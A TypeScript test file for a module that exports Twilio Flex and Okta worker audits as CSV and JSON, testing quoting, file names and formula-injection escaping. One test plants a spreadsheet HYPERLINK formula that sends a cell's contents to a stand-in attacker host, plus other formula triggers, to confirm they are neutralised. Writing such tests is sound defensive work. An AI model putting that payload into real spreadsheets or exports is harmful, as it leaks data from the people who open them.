import { parseCsv } from '../../tests/support/parse-csv';
import { describe, expect, it } from 'vitest';
import { auditCsv, auditFileName, auditJson, csvField, neutraliseFormula, type AuditExportMeta } from './export';
import { IDENTITY_STATUSES } from '../identity/statuses';
import type { AuditRow, AuditTotals } from './types';

const AC = `AC${'c0'.repeat(16)}`;
const META: AuditExportMeta = { auditedAt: '2026-12-01T10:42:05.000Z', accountSid: AC, scope: 'flex-workspace' };

function row(patch: Partial<AuditRow> = {}): AuditRow {
  return {
    workerSid: `WK${'a'.repeat(32)}`,
    workspaceSid: `WS${'b'.repeat(32)}`,
    workspaceName: 'Flex Task Assignment',
    friendlyName: 'jane@example.com',
    fullName: 'Jane Doe',
    email: 'jane@example.com',
    status: 'suspended',
    activityName: 'Offline',
    available: false,
    dateStatusChanged: '2026-06-01T08:00:00Z',
    dateCreated: '2025-01-01T08:00:00Z',
    okta: { id: '00u1', login: 'jane@example.com', status: 'SUSPENDED', flexAssigned: true },
    oktaMatches: 1,
    bulkExclusion: null,
    ...patch,
  };
}


/** The CSV as objects keyed by its header. */
const readBack = (csv: string) => {
  const [header, ...records] = parseCsv(csv);
  return records.map((r) => Object.fromEntries(header!.map((name, i) => [name, r[i]])));
};

describe('the audit as CSV', () => {
  it('writes a header and one CRLF-terminated record per row, with the audit time and account on every row', () => {
    const csv = auditCsv([row(), row({ workerSid: `WK${'c'.repeat(32)}`, fullName: 'Sam Roe', status: 'not-in-okta', okta: null, oktaMatches: 0, bulkExclusion: 'check-first' })], META);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    const [jane, sam] = readBack(csv);
    expect(jane).toMatchObject({ 'Audited at': META.auditedAt, 'Account SID': AC, 'Full name': 'Jane Doe', Status: 'Suspended', 'Status id': 'suspended', 'Okta login': 'jane@example.com', 'Okta status': 'SUSPENDED', 'Not in a bulk run because': '' });
    expect(sam).toMatchObject({ 'Audited at': META.auditedAt, 'Account SID': AC, Status: 'Not in Okta', 'Okta login': '', 'Okta matches': '0', 'Not in a bulk run because': 'check-first' });
  });

  it('quotes commas, quotes and line breaks so they come back exactly', () => {
    const tricky = 'Doe, "JJ"\r\nline two\nthree';
    const [back] = readBack(auditCsv([row({ fullName: tricky, activityName: 'Break, lunch' })], META));
    expect(back!['Full name']).toBe(tricky);
    expect(back!.Activity).toBe('Break, lunch');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('plain')).toBe('plain');
  });

  it('neutralises every cell a spreadsheet would run as a formula, and nothing else', () => {
    const planted = ['=HYPERLINK("https://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1', '\n=1+1'];
    const rows = planted.map((name, i) => row({ workerSid: `WK${String(i).repeat(32)}`, fullName: name, friendlyName: name, activityName: name }));
    const back = readBack(auditCsv(rows, META));
    expect(back.map((r) => r['Full name'])).toEqual(planted.map((p) => `'${p}`));
    expect(back.map((r) => r['Friendly name'])).toEqual(planted.map((p) => `'${p}`));
    expect(back.map((r) => r.Activity)).toEqual(planted.map((p) => `'${p}`));
    // Nothing that reached the file starts with a trigger, in any column.
    expect(back.flatMap((r) => Object.values(r)).filter((cell) => /^[=+\-@\t\r\n]/.test(cell ?? ''))).toEqual([]);
    for (const safe of ['Jane', "'=already", ' =1', 'a=b', '1-2', '']) expect(neutraliseFormula(safe)).toBe(safe);
  });

  it('writes an empty audit as its header alone', () => {
    expect(parseCsv(auditCsv([], META))).toHaveLength(1);
  });
});

describe('the audit as JSON', () => {
  const totals: AuditTotals = { workers: 1, freeable: 1, check: 0, byStatus: { ...Object.fromEntries(IDENTITY_STATUSES.map((s) => [s, 0])), suspended: 1 } as AuditTotals['byStatus'], byActivity: { Offline: 1 }, byWorkspace: [{ sid: `WS${'b'.repeat(32)}`, name: 'Flex Task Assignment', workers: 1, freeable: 1 }] };

  it('names its format and version, when and for which account the audit ran, its scope, totals and rows', () => {
    const parsed = JSON.parse(auditJson([row({ fullName: '=1+1' })], totals, META)) as Record<string, unknown>;
    expect(parsed).toEqual({ format: 'flex-steward-audit', version: 1, auditedAt: META.auditedAt, accountSid: AC, scope: 'flex-workspace', totals, rows: [row({ fullName: '=1+1' })] });
  });

  it('names files after the account and the audit’s day', () => {
    expect(auditFileName(META, 'csv')).toBe(`flex-steward-audit-${AC}-2026-12-01.csv`);
    expect(auditFileName(META, 'json')).toBe(`flex-steward-audit-${AC}-2026-12-01.json`);
  });
});
